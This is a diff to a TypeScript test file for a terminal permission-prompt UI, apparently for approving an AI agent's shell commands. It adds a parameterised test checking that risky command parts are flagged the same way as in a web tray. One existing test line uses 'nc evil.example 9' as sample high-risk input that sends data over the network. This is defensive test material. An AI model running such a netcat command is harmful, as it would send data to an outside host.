@@ -1,4 +1,5 @@
 import { afterEach, describe, expect, test, vi } from 'vitest'
+import { flaggedParts } from '../shared/risk-order'
 import { createFakeBridge } from './testing/fake-bridge'
 import { added, agentPermission, logged, permission, question } from './testing/fixtures'
 import { KEYS, paste, plainFrame, press, waitArmed, waitForFrame } from './testing/ink-driver'
@@ -144,6 +145,41 @@ describe('permission prompts as a numbered list', () => {
     expect(frame).toContain('1. npm test')
     expect(frame).toContain('3. nc evil.example 9  ← high risk: sends data over the network')
   })
+
+  test.each([
+    { risks: ['medium', 'medium'], flagged: [] },
+    { risks: ['low', 'medium'], flagged: [2] },
+    { risks: ['medium', 'medium', 'high'], flagged: [3] },
+    { risks: ['high', 'high'], flagged: [1, 2] },
+    { risks: ['low', 'low'], flagged: [] },
+  ] as const)(
+    'parts with risks $risks: the ones marked are those the web tray flags ($flagged)',
+    async ({ risks, flagged }) => {
+      const { app, fake } = await ready()
+      const parts = risks.map((risk, i) => ({ text: `step-${i + 1}`, risk }))
+      fake.emit(
+        added(
+          permission({
+            risk: risks.includes('high') ? 'high' : 'medium',
+            summary: `Run ${parts.length} commands`,
+            detail: parts.map((p) => p.text).join(' && '),
+            parts,
+          }),
+        ),
+      )
+      const frame = await waitForFrame(app, 'each checked on its own')
+      const marked = parts
+        .map((part, i) => ({
+          n: i + 1,
+          row: frame.split('\n').find((l) => l.includes(`${i + 1}. ${part.text}`)),
+        }))
+        .filter(({ row }) => row?.includes('← '))
+        .map(({ n }) => n)
+      expect(marked).toEqual(flagged)
+      // The shared rule decides it for both UIs.
+      expect(flaggedParts(risks).flatMap((f, i) => (f ? [i + 1] : []))).toEqual(flagged)
+    },
+  )
 
   test('a command is shown once: the summary that repeats it is left out and the tool row just waits', async () => {
     const { app, fake } = await ready()
